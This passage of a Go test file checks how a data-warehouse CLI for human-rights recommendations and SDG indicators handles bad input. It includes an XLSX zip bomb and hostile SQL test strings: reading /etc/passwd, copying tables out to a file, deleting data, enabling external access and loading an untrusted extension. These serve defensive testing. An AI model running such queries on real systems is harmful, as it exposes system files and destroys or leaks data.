			lines := strings.Split(string(corpusFile(t, fxGDBCSV)), "\n")
			r, err := csv.NewReader(strings.NewReader(lines[0] + "\n" + lines[1] + "\n")).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			r[1][8] = "twelve"
			var b strings.Builder
			w := csv.NewWriter(&b)
			w.WriteAll(r)
			return []byte(b.String())
		}, "indicators", "import")},
		{name: "indicators: folder with no indicator file", make: func(t *testing.T, dir string) ([]string, []string) {
			d := filepath.Join(dir, "open-sdg-data")
			os.MkdirAll(filepath.Join(d, "docs"), 0o755)
			corpusPut(t, d, "README.md", []byte("# data\n"))
			return []string{"indicators", "import", d}, []string{"open-sdg-data"}
		}},
		// A folder holding repositories: each is found and read under its own
		// dataset name (the sample is already imported as open-sdg-uk).
		{name: "indicators: Open SDG data under a parent folder", want: wantAccepted, make: func(t *testing.T, dir string) ([]string, []string) {
			d := filepath.Join(dir, "repos")
			os.Mkdir(d, 0o755)
			if out, err := copyTree(filepath.Join(shared.Root(), fxOpenSDG), filepath.Join(d, "uk-mirror")); err != nil {
				t.Fatalf("%v %s", err, out)
			}
			return []string{"indicators", "import", "--country", "GBR", d}, []string{"repos"}
		}, check: func(t *testing.T, ws, dir string, r *badResult) string {
			return warehouseAnswers(ws, `SELECT count(*) > 1000 FROM indicator_observations WHERE dataset = 'uk-mirror'`, "true")
		}},
		{name: "indicators: path that does not exist", make: func(t *testing.T, dir string) ([]string, []string) {
			return []string{"indicators", "import", filepath.Join(dir, "open-sdg-xx")}, []string{"open-sdg-xx"}
		}},
		{name: "indicators: Open SDG indicator CSV with a broken quote", want: wantRejected, make: func(t *testing.T, dir string) ([]string, []string) {
			d := filepath.Join(dir, "open-sdg-uk", "data")
			os.MkdirAll(d, 0o755)
			corpusPut(t, d, "indicator_16-1-1.csv", []byte("Year,Age,Sex,Value\n2011,\"Under 1,Male,1.3\n2012,Under 1,Female,2.5\n"))
			return []string{"indicators", "import", "--country", "GBR", filepath.Dir(d)}, []string{"indicator_16-1-1.csv"}
		}},

		// Standalone classification input.
		{name: "classify --in: empty file", make: fileKind("texts.csv", constBytes(nil), "classify", "--in"), say: []string{"empty"}},
		{name: "classify --in: binary junk", make: fileKind("texts.csv", constBytes(junkBytes), "classify", "--in")},
		{name: "classify --in: text column missing", make: func(t *testing.T, dir string) ([]string, []string) {
			return []string{"classify", "--in", writeUPRInfo(t, dir, "texts.csv", uprInfoRows(t, 3)), "--text-col", "Recommendation"}, []string{"Recommendation"}
		}},
		{name: "classify --in: UTF-16 CSV", want: wantAccepted, check: func(t *testing.T, ws, dir string, r *badResult) string {
			if n := strings.Count(r.stdout, "\n"); n != 3 || !strings.Contains(r.stdout, "sdg_goals") {
				return fmt.Sprintf("%d records classified from 3 rows: %s", n, clipText(r.stdout, 200))
			}
			return ""
		}, make: func(t *testing.T, dir string) ([]string, []string) {
			p := corpusPut(t, dir, "texts.csv", badinput.UTF16LE(strings.Join(uprInfoRows(t, 3), "\r\n"), true))
			return []string{"classify", "--in", p, "--text-col", "Text"}, []string{"texts.csv"}
		}},
		{name: "classify --in: XLSX truncated", make: fileKind("texts.xlsx", truncatedFixture(fxUHRIXLSX), "classify", "--text-col", "Text", "--in")},
		{name: "classify --in: XLSX zip bomb", make: func(t *testing.T, dir string) ([]string, []string) {
			return []string{"classify", "--text-col", "Text", "--in", bombFile(t, dir, "texts.xlsx", fxUHRIXLSX, xlsxSheet1, false)}, []string{"texts.xlsx"}
		}, say: bombWords},
		{name: "classify --in: JSONL with a broken line", make: fileKind("texts.jsonl", constBytes([]byte("{\"id\":\"a\",\"text\":\"Ratify the Convention\"}\n{\"id\":\"b\",\"text\":\"Abolish the\n")), "classify", "--in"), say: []string{"line 2", "row 2"}},
		{name: "classify --in: a million columns", make: func(t *testing.T, dir string) ([]string, []string) {
			rows := uprInfoRows(t, 1)
			return []string{"classify", "--text-col", "Text", "--in", corpusPut(t, dir, "texts.csv", []byte(badinput.WideCSV(rows[0], rows[1], 1_000_000)))}, []string{"texts.csv"}
		}},
		{name: "classify --in: unclosed quote", make: func(t *testing.T, dir string) ([]string, []string) {
			rows := uprInfoRows(t, 6)
			rows[1], rows[2] = unclosedQuoteRow, quotedCommaRow
			return []string{"classify", "--text-col", "Text", "--in", writeUPRInfo(t, dir, "texts.csv", rows)}, []string{"row 2", "line 2"}
		}, want: wantRejected},

		// Configurations of `nmirf run`.
		{name: "config: unknown key", make: configKind("[ingest]\npaths = []\nkeep_goin = true\n"), say: []string{"keep_goin"}},
		{name: "config: wrong type", make: configKind("[ingest]\npaths = \"DIR/inbox\"\n"), say: []string{"paths"}},
		{name: "config: negative stale_years", make: configKind("[[reports]]\nkind = \"gaps\"\ncountries = [\"GBR\"]\nformats = [\"md\"]\nstale_years = -5\n"), say: []string{"stale_years"}},
		{name: "config: ingest path that does not exist", make: configNaming("[ingest]\npaths = [\"DIR/no-such-inbox\"]\n", "no-such-inbox"), say: []string{"no-such-inbox"}},
		{name: "config: indicators path that does not exist", make: configNaming("[indicators]\npaths = [\"DIR/no-such-data\"]\ncountry = \"GBR\"\n", "no-such-data"), say: []string{"no-such-data"}},
		{name: "config: bad exclude glob", make: configKind("[ingest]\npaths = [\"DIR\"]\nexclude = [\"[\"]\n"), say: []string{"exclude"}},
		{name: "config: TOML syntax error", make: configKind("[ingest\npaths = [\"DIR\"]\n")},
		{name: "config: YAML given as the config", make: configKind("ingest:\n  paths:\n    - DIR\n")},
		{name: "config: UTF-16 file", make: func(t *testing.T, dir string) ([]string, []string) {
			p := corpusPut(t, dir, "nmirf.toml", badinput.UTF16LE("[ingest]\nsample = true\n", true))
			return []string{"run", "--config", p}, []string{"nmirf.toml"}
		}},
		{name: "config: file that does not exist", make: func(t *testing.T, dir string) ([]string, []string) {
			return []string{"run", "--config", filepath.Join(dir, "nmirf.toml")}, []string{"nmirf.toml"}
		}},
		{name: "config: unknown report kind", make: configKind("[[reports]]\nkind = \"gap\"\ncountries = [\"GBR\"]\n"), say: []string{"gap"}},
		{name: "config: unknown report format", make: configKind("[[reports]]\nkind = \"gaps\"\ncountries = [\"GBR\"]\nformats = [\"pdf\"]\n"), say: []string{"pdf"}},
		{name: "config: model file that does not exist", make: configKind("[classify]\nmodels = [\"DIR/sdg-v9.nmm\"]\n"), say: []string{"sdg-v9.nmm"}},
		{name: "config: unknown ingest format", make: configKind("[ingest]\npaths = [\"DIR\"]\nformat = \"upr-info-pdf\"\n"), say: []string{"upr-info-pdf"}},
		{name: "config: unknown country", make: configKind("[[reports]]\nkind = \"gaps\"\ncountries = [\"Atlantis\"]\nformats = [\"md\"]\n"), say: []string{"Atlantis"}},

		// `nmirf sql` is read-only and reads only the warehouse.
		{name: "sql: COPY over the database", make: sqlKind(`COPY (SELECT 1) TO 'WAREHOUSE/nmirf.duckdb'`)},
		{name: "sql: COPY over the published snapshot", make: sqlKind(`COPY (SELECT 1 AS x) TO 'WAREHOUSE/parquet/recommendations/country_iso3=GBR/part-0.parquet' (FORMAT parquet)`)},
		{name: "sql: COPY to a file outside", make: sqlKind(`COPY (SELECT * FROM recommendations) TO 'DIR/leak.csv'`), check: wroteNoFile("leak.csv")},
		{name: "sql: ATTACH another warehouse READ_WRITE and DELETE", make: func(t *testing.T, dir string) ([]string, []string) {
			other := filepath.Join(dir, "other")
			if out, err := copyTree(filepath.Join(filepath.Dir(dir), "warehouse"), other); err != nil {
				t.Fatalf("%v %s", err, out)
			}
			return sqlKind(`ATTACH '`+other+`/nmirf.duckdb' AS o (READ_WRITE); DELETE FROM o.recommendations`)(t, dir)
		}, check: func(t *testing.T, ws, dir string, r *badResult) string {
			mine, err := readWarehouseState(ws)
			if err != nil {
				return err.Error()
			}
			other, err := readWarehouseState(filepath.Join(dir, "in", "other"))
			if err != nil {
				return "the other warehouse: " + err.Error()
			}
			if d := mine.diff(other); d != "" {
				return "the other warehouse: " + d
			}
			return ""
		}},
		{name: "sql: read_csv of /etc/passwd", make: sqlKind(`SELECT * FROM read_csv('/etc/passwd')`), check: func(t *testing.T, ws, dir string, r *badResult) string {
			if strings.Contains(r.stdout, "root") {
				return "printed /etc/passwd"
			}
			return ""
		}},
		{name: "sql: two statements", make: sqlKind(`SELECT 1; SELECT count(*) FROM recommendations`)},
		{name: "sql: DELETE", make: sqlKind(`DELETE FROM recommendations`)},
		{name: "sql: CREATE TABLE", make: sqlKind(`CREATE TABLE notes AS SELECT 1 AS x`)},
		{name: "sql: SET enable_external_access", make: sqlKind(`SET enable_external_access = true`)},
		// LOAD of a local file, not INSTALL: tests never reach the network.
		{name: "sql: LOAD an extension file", make: func(t *testing.T, dir string) ([]string, []string) {
			p := corpusPut(t, dir, "evil.duckdb_extension", junkBytes)
			return sqlKind(`LOAD '`+p+`'`)(t, dir)
		}},
		{name: "sql: syntax error", make: func(t *testing.T, dir string) ([]string, []string) {
			return []string{"sql", "SELEC count(*) FROM recommendations"}, []string{"SELEC", "syntax"}
		}},

		// Reports that would be empty.
		{name: "report gaps for a country with no data", make: func(t *testing.T, dir string) ([]string, []string) {
			return []string{"report", "gaps", "--country", "NZL", "--format", "md", "--out", dir}, []string{"NZL", "New Zealand"}
		}},
		{name: "report in an unknown format", make: func(t *testing.T, dir string) ([]string, []string) {
			return []string{"report", "gaps", "--country", "GBR", "--format", "pdf", "--out", dir}, []string{"pdf"}
		}},
	}
	return k
}

func fixtureText(rel string) string {
	b, err := os.ReadFile(filepath.Join(shared.Root(), rel))
	if err != nil {
		panic(err)
	}
	return string(b)
}

func copyTree(src, dst string) ([]byte, error) {
	return exec.Command("cp", "-a", src, dst).CombinedOutput()
}

// fileNamed is file with other words the message may name instead of the
// file (a row, a field).
func fileKindNamed(names []string, name string, data func(t *testing.T) []byte, cmd ...string) func(t *testing.T, dir string) ([]string, []string) {
	return func(t *testing.T, dir string) ([]string, []string) {
		args, n := fileKind(name, data, cmd...)(t, dir)
		return args, append(n, names...)
	}
}

// configNaming is configKind whose message may name value instead of the
// config file (a path that does not exist).
func configNaming(body, value string) func(t *testing.T, dir string) ([]string, []string) {
	return func(t *testing.T, dir string) ([]string, []string) {
		args, n := configKind(body)(t, dir)
		return args, append(n, value)
	}
}

// queryIs checks that query over the warehouse answers want.
func warehouseAnswers(ws, query, want string) string {
	w, err := load.Open(context.Background(), ws)
	if err != nil {
		return err.Error()
	}
	defer w.Close()
	var got string
	if err := w.DB().QueryRow(query).Scan(&got); err != nil {
		return fmt.Sprintf("%s: %v", query, err)
	}
	if got != want {
		return fmt.Sprintf("%s: %s, want %s", query, got, want)
	}
	return ""
}

// importedText checks that a recommendation with this text was imported, decoded right.
func importedText(text string) func(t *testing.T, ws, dir string, r *badResult) string {
	return func(t *testing.T, ws, dir string, r *badResult) string {
		return warehouseAnswers(ws, `SELECT count(*) > 0 FROM recommendations WHERE text LIKE '%`+text+`%'`, "true")
	}
}

// notImported checks that no recommendation holds text: a rejected row, or
// a row swallowed into another one, is not in the warehouse.
func notImported(text string) func(t *testing.T, ws, dir string, r *badResult) string {
	return func(t *testing.T, ws, dir string, r *badResult) string {
		return warehouseAnswers(ws, `SELECT count(*) FROM recommendations WHERE text LIKE '%`+text+`%' AND text NOT LIKE '`+text+`%'`, "0")
	}
}
